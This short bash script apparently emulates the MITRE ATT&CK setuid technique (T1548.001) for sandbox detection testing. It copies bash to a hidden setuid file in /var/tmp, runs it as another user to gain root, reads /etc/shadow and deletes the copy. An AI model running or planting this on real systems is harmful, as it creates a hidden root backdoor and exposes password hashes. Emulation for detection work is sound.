#!/bin/bash
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# tactic: privilege-escalation
# user: root
# does: leaves a copy of bash that gives its user root, and uses it
# harmless: root only in the sandbox; the copy is removed

cp /bin/bash /var/tmp/.bash
chmod 4755 /var/tmp/.bash
su alice -s /bin/sh -c '/var/tmp/.bash -p -c "id; cat /etc/shadow"' >/dev/null
rm /var/tmp/.bash
